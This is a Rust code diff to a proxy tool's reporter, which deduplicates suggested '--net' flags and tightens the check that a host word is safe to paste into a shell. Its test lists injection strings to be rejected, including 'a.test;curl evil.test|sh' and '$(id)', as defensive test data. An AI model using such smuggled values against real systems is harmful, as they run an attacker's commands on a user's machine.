@@ -57,7 +57,12 @@ pub(crate) fn list(log: Option<&Log>) -> Value {
 
 /// Says at the end which hosts were refused, and what would allow them.
 pub(crate) fn tell(log: &Log, output: &Output) {
-    let words: Vec<String> = log.entries().iter().filter_map(remedy).collect();
+    let mut words: Vec<String> = Vec::new();
+    for word in log.entries().iter().filter_map(remedy) {
+        if !words.contains(&word) {
+            words.push(word);
+        }
+    }
     if words.is_empty() {
         return;
     }
@@ -71,7 +76,10 @@ pub(crate) fn tell(log: &Log, output: &Output) {
 /// Returns the flag that would allow it, where one would.
 pub(crate) fn remedy(entry: &Entry) -> Option<String> {
     match entry.decision {
-        Decision::NotAllowed => is_host(&entry.host).then(|| format!("--net {}", word(entry))),
+        Decision::NotAllowed => {
+            let word = Some(word(entry)).filter(|word| is_rule(word));
+            word.map(|word| format!("--net {word}"))
+        }
         Decision::Special(special) => lift(entry.protocol, special),
         _ => None,
     }
@@ -86,11 +94,11 @@ fn lift(protocol: Protocol, Special { at, range }: Special) -> Option<String> {
     may_be.then(|| format!("--net {word}"))
 }
 
-/// Tells whether a rule could name it. A client of the proxy chooses the name, and what is proposed
-/// is copied into a shell.
-fn is_host(name: &str) -> bool {
+/// Tells whether a word is one that can be given. A client of the proxy chooses the name, and what is
+/// proposed is copied into a shell.
+fn is_rule(word: &str) -> bool {
     let is_plain = |it: u8| it.is_ascii_alphanumeric() || b".-_:[]".contains(&it);
-    !name.is_empty() && !name.starts_with('-') && name.bytes().all(is_plain)
+    !word.starts_with('-') && word.bytes().all(is_plain) && HostRule::parse(word).is_ok()
 }
 
 /// The word of `--net` that would allow it.
@@ -127,17 +135,20 @@ fn why(entry: &Entry) -> String {
 
 #[cfg(test)]
 mod tests {
-    use super::is_host;
+    use super::is_rule;
 
     #[test]
     fn nothing_is_proposed_that_a_shell_would_run() {
-        for name in ["a.test", "xn--bcher-kva.test", "192.0.2.1", "[2001:db8::1]", "_x.test"] {
-            assert!(is_host(name), "{name}");
+        for name in ["a.test", "xn--bcher-kva.test:443", "192.0.2.1", "[2001:db8::1]:80"] {
+            assert!(is_rule(name), "{name}");
         }
         for name in
             ["a.test;curl evil.test|sh", "$(id)", "a b", "`id`", "a'b", "--rw", "", "a\u{202e}b"]
         {
-            assert!(!is_host(name), "{name}");
+            assert!(!is_rule(name), "{name}");
+        }
+        for unreadable in ["a.test..:80", "a..test", ".:80", "a.test:", "a.test:0"] {
+            assert!(!is_rule(unreadable), "{unreadable}");
         }
     }
 }
